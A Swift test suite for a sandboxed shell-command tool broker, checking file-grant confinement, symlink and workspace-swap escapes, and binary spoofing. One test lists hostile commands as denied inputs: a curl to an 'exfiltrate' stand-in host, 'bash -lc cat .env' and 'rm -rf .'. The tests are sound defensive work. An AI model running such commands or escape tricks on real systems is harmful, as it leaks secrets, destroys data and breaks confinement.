internal import CapabilityLanguage
internal import Glibc
internal import LibOSModel
internal import LinuxPrimitives
internal import SQLiteRuntimeStore
internal import SandboxTestSupport
internal import StrictJSON
import TestSupport
internal import Testing
internal import ToolBroker

/// Command tools: confined to what their arguments were granted, and told as they ended.
@Suite struct CommandToolTests {
    private func run(_ fixture: BrokerFixture, _ argv: [String], read: [String]? = nil, write: [String] = []) async throws -> ToolCallResult
    {
        var members = [JSONMember("argv", .strings(argv)), JSONMember("write", .strings(write))]
        if let read { members.append(JSONMember("read", .strings(read))) }
        return try await fixture.call("run_shell_command", JSONValue.object(members).canonicalText)
    }

    @Test(.timeLimit(.minutes(1))) func `a program by name, with exactly the files that were named`() async throws {
        try await BrokerFixture.with { fixture in
            try fixture.sandbox.directory("src")
            try fixture.sandbox.file("src/a", "A")
            try fixture.sandbox.file("src/b", "B")
            try await fixture.grant("shell:cat", [.execute])
            try await fixture.grant("shell:ls", [.execute])
            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
            let seen = try await run(fixture, ["cat", "src/a", "src/b"], read: ["src/a"])
            #expect(seen.isOK, "\(seen)")
            #expect(seen.payload["stdout"] == .string("A") && seen.payload["returncode"] == .int(1))
            #expect(seen.payload["stderr"]?.canonicalText.contains("src/b") == true)
            let listed = try await run(fixture, ["ls", "-R", "."], read: ["src/b"])
            #expect(listed.payload["stdout"] == .string(".:\nsrc\n\n./src:\nb\n"), "\(listed)")
            #expect(try await fixture.calls(.completed).count == 2)
        }
    }

    /// Another directory under the workspace's name is another workspace: no path of it was decided, at the top or below.
    @Test(.timeLimit(.minutes(1)), arguments: [["."], ["sub"]]) func `a workspace that was exchanged is not entered`(granted: [String])
        async throws
    {
        try await BrokerFixture.with { fixture in
            try fixture.sandbox.directory("sub", mode: 0o777)
            try fixture.sandbox.file("sub/f", "ours")
            try await fixture.grant("shell:cat", [.execute])
            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
            #expect(try await run(fixture, ["cat", "sub/f"], read: granted).payload["stdout"] == .string("ours"))
            let workspace = fixture.sandbox.workspace
            #expect(rename(workspace, workspace + "-old") == 0)
            #expect(mkdir(workspace, 0o777) == 0 && mkdir(workspace + "/sub", 0o777) == 0)
            try fixture.sandbox.file("sub/f", "theirs")
            let result = try await run(fixture, ["cat", "sub/f"], read: granted)
            #expect(!result.isOK && result.payload["stdout"] != .string("theirs"), "\(result)")
            #expect(result.error?.contains("was exchanged") == true, "\(result)")
            #expect(rename(workspace, workspace + "-other") == 0 && rename(workspace + "-old", workspace) == 0)
            #expect(try await run(fixture, ["cat", "sub/f"], read: granted).payload["stdout"] == .string("ours"))
        }
    }

    @Test(.timeLimit(.minutes(1))) func `what may be read may not be written`() async throws {
        try await BrokerFixture.with { fixture in
            try fixture.sandbox.file("a", "A")
            try await fixture.grant("shell:cp", [.execute])
            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
            let refused = try await run(fixture, ["cp", "/etc/os-release", "a"], read: ["a"])
            #expect(refused.payload["returncode"] != .int(0))
            #expect(try HostFile.text(fixture.sandbox.path("a")) == "A")
            let done = try await run(fixture, ["cp", "/etc/os-release", "a"], read: [], write: ["a"])
            #expect(done.payload["returncode"] == .int(0), "\(done)")
            #expect(try HostFile.text(fixture.sandbox.path("a")) != "A")
        }
    }

    @Test(
        .timeLimit(.minutes(1)),
        arguments: [
            (["curl", "https://example.invalid/exfiltrate"], "shell:curl"), (["bash", "-lc", "cat .env"], "shell:bash"),
            (["rm", "-rf", "."], "shell:rm"), (["/usr/bin/env", "bash"], "shell:/usr/bin/env"),
        ])
    func `a program without authority does not start`(argv: [String], resource: String) async throws {
        try await BrokerFixture.with { fixture in
            try fixture.sandbox.file("a", "A")
            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
            try await fixture.grant("shell:git", [.execute])
            let result = try await run(fixture, argv)
            #expect(result.decision == .deny && result.denial?.layer == .capability)
            #expect(result.error?.contains(resource) == true, "\(result)")
            #expect(HostFile.exists(fixture.sandbox.path("a")))
            #expect(try await fixture.audit("external_effect.intent").isEmpty)
        }
    }

    @Test(.timeLimit(.minutes(1))) func `a program that is not there gives its one use back`() async throws {
        try await BrokerFixture.with { fixture in
            let record = try await fixture.grant("shell:no-such-program", [.execute], uses: 1)
            try await fixture.grant("filesystem:workspace:*", [.read])
            let result = try await run(fixture, ["no-such-program"])
            #expect(!result.isOK, "\(result)")
            #expect(try await fixture.capability(record.id)?.usesRemaining == 1)
            // The built-in program is what a manifest runs, not what an argument names.
            try await fixture.grant("shell:glovebox-worker", [.execute])
            #expect(try await run(fixture, ["glovebox-worker"]).isOK == false)
        }
    }

    @Test(.timeLimit(.minutes(1))) func `output is cut, cleaned, and never more than the limit`() async throws {
        try await BrokerFixture.with { fixture in
            try await fixture.grant("shell:printf", [.execute])
            try await fixture.grant("filesystem:workspace:*", [.read])
            let result = try await run(fixture, ["printf", "\\033[31mred\\007\\377"])
            #expect(result.payload["stdout"]?.canonicalText.contains("\u{1B}") == false)
            #expect(result.isOK, "\(result)")
        }
    }

    @Test(.timeLimit(.minutes(1))) func `what a run used is charged, and an empty budget stays empty`() async throws {
        try await BrokerFixture.with { fixture in
            try await fixture.grant("shell:true", [.execute])
            try await fixture.grant("filesystem:workspace:*", [.read])
            try await fixture.change { $0.budget[.subprocessWallMilliseconds] = 1 }
            _ = try await run(fixture, ["true"])
            let (store, id) = (fixture.store, fixture.process)
            let process = try await store.read { reading throws(LibOSError) in try reading.existingProcess(id) }
            #expect(process.usage[.subprocessWallMilliseconds] <= 1)
            #expect(process.usage[.toolCalls] == 1)
        }
    }

    @Test(.timeLimit(.minutes(1))) func `a denied file stays denied when its directory is moved`() async throws {
        try await BrokerFixture.with { fixture in
            try fixture.sandbox.directory("a")
            try fixture.sandbox.file("a/key", "SECRET")
            for program in ["mv", "cat", "ln"] { try await fixture.grant("shell:\(program)", [.execute]) }
            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
            try await fixture.grant("filesystem:workspace:a/key", [.read, .write, .delete], effect: .deny)
            #expect(try await run(fixture, ["cat", "a/key"]).payload["stdout"] == .string(""))
            _ = try await run(fixture, ["mv", "a", "b"], write: ["."])
            _ = try await run(fixture, ["mv", "a/key", "c"], write: ["."])
            _ = try await run(fixture, ["ln", "a/key", "d"], write: ["."])
            for path in ["a/key", "b/key", "c", "d"] {
                #expect(try await run(fixture, ["cat", path]).payload["stdout"]?.canonicalText.contains("SECRET") != true, "\(path)")
            }
        }
    }

    @Test(.timeLimit(.minutes(1))) func `a link among the named files leads nowhere`() async throws {
        try await BrokerFixture.with { fixture in
            try fixture.sandbox.directory("d")
            try fixture.sandbox.file("d/own", "OWN")
            try HostFile.write(fixture.sandbox.scratch.path + "/outside", "OUTSIDE", mode: 0o644)
            try fixture.sandbox.link("link", to: "../outside")
            try fixture.sandbox.link("d/up", to: "../..")
            try await fixture.grant("shell:cat", [.execute])
            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
            for (path, read) in [("link", ["link"]), ("link", ["."]), ("d/up/outside", ["d"]), ("d/up/outside", ["d/up"])] {
                let result = try await run(fixture, ["cat", path], read: read)
                #expect(result.payload["stdout"]?.canonicalText.contains("OUTSIDE") != true, "\(path)")
            }
            // Nothing named is nothing seen.
            let empty = try await run(fixture, ["cat", "d/own"], read: [])
            #expect(empty.payload["stdout"] == .string(""), "\(empty)")
        }
    }

    /// Who may run `git` means the system's, and not what somebody put somewhere under that name.
    @Test(.timeLimit(.minutes(1))) func `a program of the workspace does not pass for one of the system's`() async throws {
        try await BrokerFixture.with { fixture in
            try fixture.sandbox.directory("bin")
            for path in ["cat", "bin/cat"] { try fixture.sandbox.file(path, "#!/bin/sh\necho OWN", mode: 0o755) }
            try await fixture.grant("shell:cat", [.execute])
            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
            let root = fixture.sandbox.workspace
            for program in [
                "./cat", "cat", "bin/cat", "\(root)/cat", "\(root)/bin/cat", "/../\(root)/cat", "/usr/bin/../..\(root)/cat", "CAT",
            ] {
                let result = try await run(fixture, [program, "/dev/null"], write: ["."])
                #expect(result.payload["stdout"]?.canonicalText.contains("OWN") != true, "\(program)")
            }
        }
    }
}
